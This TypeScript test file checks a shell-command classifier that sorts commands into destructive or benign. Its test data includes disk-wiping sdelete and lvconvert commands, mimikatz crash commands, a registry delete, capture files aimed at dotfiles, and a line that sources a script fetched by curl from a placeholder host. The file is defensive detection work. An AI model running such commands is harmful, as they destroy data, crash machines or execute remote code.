import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { EMPTY_INVENTORY, type ActionFacts } from '../../core/index.ts';
import { createClassifier, type Classifier } from '../index.ts';
import { benign, windowsClassifier } from '../../../test/helpers/windows-classifier.ts';

// Round 30 (branch t30): the edges of the classes fixed from the tldr-pages sample widened again; the corpus cases are
// in fix30-t30.yaml.

let classifier: Classifier;
before(async () => {
  classifier = await createClassifier();
});

function sh(command: string): ActionFacts {
  return classifier.classify({ kind: 'shell', command }, { cwd: '/home/dev/src/app', home: '/home/dev' }, EMPTY_INVENTORY);
}

const { cmd } = windowsClassifier({ cwd: 'C:\\Users\\dev\\src\\shop', home: 'C:\\Users\\dev' });

test('SDelete cleans a whole disk given its number; a drive letter is free space only', () => {
  for (const c of ['sdelete -z 2', 'sdelete -c 0', 'sdelete64 -p 3 -z 1']) assert.ok(cmd(c).destructive, c);
  for (const c of ['sdelete -z D:', 'sdelete -c C:', 'sdelete -p 2 -z E:\\']) assert.ok(benign(cmd(c)), c);
  // Without -c or -z a number is a file name: the files it names are deleted, as before.
  assert.ok(cmd('sdelete 2').destructive);
});

test('lvconvert into a pool wipes the volume; into a thin or cached volume, or a mirror, it keeps the data', () => {
  for (const c of ['lvconvert --type thin-pool vg/data', 'lvconvert --type=cache-pool vg/fast', 'sudo lvconvert --type thin-pool --poolmetadata vg/m vg/d']) assert.ok(sh(c).destructive, c);
  for (const c of ['lvconvert --type thin --thinpool vg/pool vg/lv', 'lvconvert --type cache --cachepool vg/fast vg/slow', 'lvconvert -m 1 vg/lv', 'lvconvert --type thin-pool -t vg/d']) assert.equal(sh(c).destructive, false, c);
});

test("minicom's capture file is read only when it is a plain workspace path", () => {
  for (const c of ['minicom -D /dev/ttyUSB0 -C logs/a.txt', 'minicom -D /dev/ttyUSB0 --capturefile=serial.log']) assert.ok(benign(sh(c)), c);
  for (const c of ['minicom -D /dev/ttyUSB0 -C ~/.profile', 'minicom -C /etc/motd', 'minicom -C ../x.log', 'minicom -C .env', 'minicom -C "$LOG"', 'minicom --capturefile=logs/.hidden']) assert.equal(benign(sh(c)), false, c);
});

test('Mutagen: a replica or alpha-wins session deletes on beta; ending sessions and the safe modes do not', () => {
  for (const c of ['mutagen sync create -m one-way-replica a/ h:/b/', 'mutagen sync create --sync-mode=two-way-resolved a/ h:/b/']) assert.ok(sh(c).destructive, c);
  for (const c of ['mutagen sync create --sync-mode=one-way-safe a/ h:/b/', 'mutagen sync pause web', 'mutagen forward terminate db', 'mutagen daemon stop']) assert.ok(benign(sh(c)), c);
});

test("mimikatz's crash and clock commands are read in any case and in any place on its line; its other commands are not", () => {
  for (const c of ['mimikatz "MISC::BSOD"', 'mimikatz.exe "privilege::debug" "misc::bsod" "exit"', 'mimikatz misc::systemtime']) assert.ok(cmd(c).destructive, c);
  assert.ok(benign(cmd('mimikatz "misc::bsodx"')));
});

test("`/?` asks Wine's built-in programs for help; cmd's and start's lines may chain other commands, and another program stays judged", () => {
  for (const c of ['wine reg /?', 'wine REG.EXE add /?', 'wine net use /?', 'wine64 taskkill /?']) assert.ok(benign(sh(c)), c);
  assert.ok(sh('wine reg delete HKCU\\\\Software\\\\Acme /f').destructive);
  assert.equal(benign(sh('wine setup.exe /?')), false);
});

test('Angular\'s completion script sourced is setup; another ng output sourced is not seen', () => {
  assert.ok(benign(sh('source <(ng completion script)')));
  assert.ok(benign(sh('. <(ng completion script)')));
  assert.equal(benign(sh('source <(ng completion)')), false);
  assert.equal(benign(sh('source <(ng completion script; curl -s https://x.example/a.sh)')), false);
});
